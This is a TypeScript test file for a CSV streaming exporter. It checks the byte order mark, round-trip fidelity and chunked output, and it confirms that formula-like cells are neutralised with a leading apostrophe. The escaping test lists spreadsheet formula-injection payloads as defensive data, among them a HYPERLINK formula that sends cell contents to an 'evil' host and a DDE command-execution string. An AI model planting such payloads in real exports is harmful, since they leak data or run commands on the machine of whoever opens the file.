import assert from 'node:assert/strict';
import { test } from 'node:test';
import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import { streamCsv } from './stream-csv.ts';
import type { CellValue } from './table.ts';

const writeCsv = async (rows: CellValue[][], headings = rows[0]!.map((_, index) => `C${index}`)) => {
  const columns = headings.map((heading) => ({ heading, kind: 'text' as const }));
  const batches = (async function* () {
    yield rows.map((values) => ({ values, timeZone: 'UTC' }));
  })();
  return Array.fromAsync(streamCsv({ name: 'Results', columns, batches }));
};

/** Parses CSV like readers that treat every kind of line break as the end of a row. */
const parseCells = (text: string): string[][] =>
  parse(text, { bom: true, record_delimiter: ['\r\n', '\n', '\r'] });

/** Removes the apostrophe as described in docs/integrate/results.md. */
const stripApostrophe = (text: string) => text.replace(/^'(?='*(?:[\t\r\n]|\s*[=+\-@＝＋－＠]))/, '');

test('starts with a byte order mark so that Excel recognises UTF-8', async () => {
  const pieces = await writeCsv([['x']]);
  assert.equal(pieces.join(''), '\uFEFFC0\r\nx\r\n');
});

test('puts an apostrophe before text that looks like a formula, but not before numbers', async () => {
  const harmful = [
    '=1+1',
    '+31 6 1234',
    '-crack',
    '@SUM(A1)',
    '\tx',
    '\rx',
    '\nx',
    ' =1+1',
    '\u00a0=1+1',
    '＝1+1',
    "'=1+1",
    '=HYPERLINK("http://evil/?"&A1)',
    "=cmd|'/C calc'!A0",
  ];
  const harmless = ["'s-Gravenhage", 'a=b', '1-2', "''", '', '0012'];
  const pieces = await writeCsv([harmful, [...harmless, ...harmful].slice(0, harmful.length)], harmful);
  const [headings, first, second] = parseCells(pieces.join(''));
  assert.deepEqual(
    first,
    harmful.map((text) => `'${text}`),
  );
  assert.deepEqual(headings, first);
  assert.deepEqual(second!.slice(0, harmless.length), harmless);
  const numbers = [-1, -0.5, 1e21, -1e-7, 0, 9_007_199_254_740_991];
  const [, values] = parseCells((await writeCsv([[...numbers, true, false, null]])).join(''));
  assert.deepEqual(values, ['-1', '-0.5', '1e+21', '-1e-7', '0', '9007199254740991', 'true', 'false', '']);
});

const piece = fc.constantFrom(
  "'",
  '"',
  ',',
  ';',
  '=',
  '-',
  '@',
  '\t',
  '\r',
  '\n',
  '\r\n',
  ' ',
  '\uFEFF',
  'x',
  '🙂',
);
const text = fc.oneof(
  fc.array(piece, { maxLength: 6 }).map((pieces) => pieces.join('')),
  fc.string({ unit: 'binary' }),
);

test('writes every string so that it can be read back unchanged', async () => {
  await fc.assert(
    fc.asyncProperty(fc.array(fc.tuple(text, text), { minLength: 1, maxLength: 5 }), async (rows) => {
      const [, ...cells] = parseCells((await writeCsv(rows)).join(''));
      assert.deepEqual(
        cells.map((row) => row.map(stripApostrophe)),
        rows,
      );
    }),
    { numRuns: 300 },
  );
});

test('streams a table with many columns in small pieces', async () => {
  const row = Array.from({ length: 16_384 }, () => 'some words');
  const pieces = await writeCsv(Array.from({ length: 10 }, () => row));
  assert.ok(Math.max(...pieces.map(({ length }) => length)) < 400_000);
  assert.equal(parseCells(pieces.join('')).length, 11);
});

test('streams a long cell in small pieces, without splitting a character', async () => {
  const cell = `"${'🙂'.repeat(500_000)}${'"'.repeat(500_000)}`;
  const pieces = await writeCsv([[cell, 'x']]);
  assert.ok(Math.max(...pieces.map(({ length }) => length)) < 400_000);
  const bytes = Buffer.concat(pieces.map((piece) => Buffer.from(piece)));
  assert.deepEqual(parseCells(bytes.toString())[1], [cell, 'x']);
});
